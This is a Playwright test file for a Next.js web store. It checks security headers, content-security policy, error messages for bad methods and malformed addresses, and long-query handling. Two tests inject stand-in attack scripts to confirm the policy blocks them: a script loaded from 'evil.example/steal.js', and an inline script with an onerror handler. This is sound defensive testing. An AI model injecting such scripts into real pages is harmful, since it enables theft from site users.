import { createHash } from 'node:crypto';
import { Cart } from './cart.page';
import { expect, hydrated, storeUrl, takeCspViolations, test } from './fixtures';

/**
 * Issue 25, items 8, 14, 15 and 16 on real answers of the production server, read with Node's own
 * fetch (undici), as an API client or a monitoring probe would.
 */
const base = storeUrl('localhost', '');

const headerBytes = (response: Response) =>
  [...response.headers].reduce((sum, [k, v]) => sum + k.length + v.length + 4, 0);

function expectSecurityHeaders(response: Response) {
  const csp = response.headers.get('content-security-policy') ?? '';
  expect(csp).toContain("default-src 'self'");
  expect(csp).toContain("frame-ancestors 'none'");
  expect(csp).toContain("object-src 'none'");
  expect(csp).toContain('https://sdk.mercadopago.com');
  expect(response.headers.get('x-content-type-options')).toBe('nosniff');
  expect(response.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
  expect(response.headers.get('permissions-policy')).toContain('camera=()');
  expect(response.headers.get('x-frame-options')).toBe('DENY');
  // Plain http: no HSTS (it is sent over https only).
  expect(response.headers.get('strict-transport-security')).toBeNull();
}

test(
  'a page, an API answer, a static file and a refusal all carry the security headers',
  { tag: '@local' },
  async () => {
    const home = await fetch(`${base}/`);
    expect(home.status).toBe(200);
    expectSecurityHeaders(home);
    const script = /<script src="(\/_next\/static\/[^"]+\.js)"/.exec(await home.text())?.[1];
    expect(script).toBeTruthy();
    for (const path of ['/api/company', '/payments/sandbox-sdk.js', '/nao-existe-esta-pagina'])
      expectSecurityHeaders(await fetch(`${base}${path}`));
    // The build's own files: a policy that lets them load and run nothing if opened as a page.
    const chunk = await fetch(`${base}${script!}`);
    expect(chunk.headers.get('content-security-policy')).toBe(
      "default-src 'none'; frame-ancestors 'none'",
    );
    expect(chunk.headers.get('x-content-type-options')).toBe('nosniff');
    expect(chunk.headers.get('x-frame-options')).toBe('DENY');
    // Behind a TLS proxy (Next sets x-forwarded-proto itself on a TLS server): HSTS.
    const https = await fetch(`${base}/api/company`, { headers: { 'x-forwarded-proto': 'https' } });
    expect(https.headers.get('strict-transport-security')).toBe(
      'max-age=31536000; includeSubDomains',
    );
  },
);

test("a method a route lacks answers 'Método não disponível'; a call by id without the id says so", async () => {
  const del = await fetch(`${base}/api/company`, { method: 'DELETE' });
  expect([del.status, await del.json()]).toEqual([
    405,
    { success: false, message: 'Método não disponível' },
  ]);
  for (const [method, path] of [
    ['GET', '/api/sale/order'],
    ['PUT', '/api/sale/order'],
    ['GET', '/api/contactform'],
    ['DELETE', '/api/customer/addresses'],
  ] as const) {
    const res = await fetch(`${base}${path}`, { method });
    expect([method, path, res.status, await res.json()]).toEqual([
      method,
      path,
      400,
      { success: false, message: 'Esse método não pode ser utilizado sem um ID' },
    ]);
  }
});

test(
  'an address whose percent-encoding does not decode is a 400 with a message, never a 500',
  { tag: '@local' },
  async () => {
    for (const path of ['/api/sale/order/%E0%A4%A', '/api/contactform/%ZZ']) {
      const res = await fetch(`${base}${path}`);
      expect([path, res.status, await res.json()]).toEqual([
        path,
        400,
        { success: false, message: 'Endereço inválido' },
      ]);
    }
    for (const path of ['/notebooks%ZZ', '/%E0%A4%A']) {
      const res = await fetch(`${base}${path}`);
      expect([path, res.status]).toEqual([path, 400]);
      expect(await res.text()).toContain('<h1>Endereço inválido</h1>');
    }
  },
);

test('a 9 KB query gets an answer a Node client reads, with small headers', async () => {
  const long = `${base}/search?q=${encodeURIComponent('notebook gamer '.repeat(600))}`;
  expect(new URL(long).search.length).toBeGreaterThan(9000);
  // Before the cap, the rewrite header repeated the query and undici refused the answer.
  const res = await fetch(long);
  expect(res.status).toBe(414);
  expect(await res.text()).toContain('Endereço longo demais');
  expect(headerBytes(res)).toBeLessThan(4096);
  // A search of ordinary length still works, and its rewrite header stays small.
  const ok = await fetch(`${base}/search?q=${encodeURIComponent('notebook gamer')}`);
  expect(ok.status).toBe(200);
  expect(headerBytes(ok)).toBeLessThan(8192);
});

test("the store's pages refuse a script from an origin the store does not load", async ({
  page,
}) => {
  await page.goto('/');
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/steal.js';
    document.head.append(script);
  });
  await expect
    .poll(() => takeCspViolations().join('\n'))
    .toContain('https://evil.example/steal.js');
});

test('every inline script of a page is allowed by the policy alone: a nonce fresh for the answer, or its hash for a page served whole', async () => {
  const nonces: string[] = [];
  const hashed: string[] = [];
  const paths = [
    '/',
    '/notebooks',
    '/onestepcheckout',
    '/customer/account/login',
    '/',
    '/notebooks',
  ];
  for (const path of paths) {
    const res = await fetch(`${base}${path}`);
    const scriptSrc = /script-src ([^;]*)/.exec(res.headers.get('content-security-policy')!)![1]!;
    expect(scriptSrc).not.toContain("'unsafe-inline'");
    const nonce = /'nonce-([A-Za-z0-9+/=]+)'/.exec(scriptSrc)?.[1];
    const html = await res.text();
    const inline = [...html.matchAll(/<script(?![^>]*\bsrc=)([^>]*)>([^]*?)<\/script>/g)].filter(
      (m) => !m[1]!.includes('application/ld+json'),
    );
    expect(inline.length).toBeGreaterThan(3);
    if (nonce) {
      expect(
        inline.map((m) => m[1]).filter((attributes) => attributes !== ` nonce="${nonce}"`),
      ).toEqual([]);
      nonces.push(nonce);
    } else {
      // A page Next serves from its cache whole: each script's hash is in the policy (ADR 0019).
      const hashes = inline.map(
        (m) => `'sha256-${createHash('sha256').update(m[2]!).digest('base64')}'`,
      );
      expect([path, hashes.filter((hash) => !scriptSrc.includes(hash))]).toEqual([path, []]);
      expect(inline.filter((m) => m[1]!.includes('nonce'))).toEqual([]);
      hashed.push(path);
    }
  }
  // A page streamed for its request takes a nonce (lib/server/http/script-nonce.test.ts streams
  // React's own output); none of these pages is, and each nonce seen must be fresh.
  expect(new Set(nonces).size).toBe(nonces.length);
  // Asked twice, a listing is a cached page.
  expect(hashed).toContain('/notebooks');
});

test('a script slipped into a page does not run, and the page still works', async ({ page }) => {
  // As if content had carried markup past the sanitizer: the real answer of the server, with its
  // own headers, plus an inline script and an inline handler before </body>.
  await page.route('**/mouse-sem-fio-aurora-silent', async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace(
      '</body>',
      `<script>window.__injected='script'</script><img src="/x.png" onerror="window.__injected='handler'"></body>`,
    );
    await route.fulfill({ response, body });
  });
  await page.goto('/mouse-sem-fio-aurora-silent');
  const buy = page.getByTestId('buy');
  await hydrated(buy);
  await expect
    .poll(() => takeCspViolations().join('\n'))
    .toMatch(/inline script[^]*inline (script|event handler)|Refused to execute inline/);
  expect(await page.evaluate(() => (window as { __injected?: string }).__injected)).toBeUndefined();
  await buy.click();
  await expect(new Cart(page).drawer).toBeVisible();
});

test("the bench's control pages are a 404 on a server the bench did not start", async () => {
  for (const path of ['/bench-control', '/bench-control/via-proxy', '/bench-control.rsc']) {
    const response = await fetch(`${base}${path}`);
    expect(response.status, path).toBe(404);
    expect(await response.text(), path).not.toContain('Página de controle');
  }
});
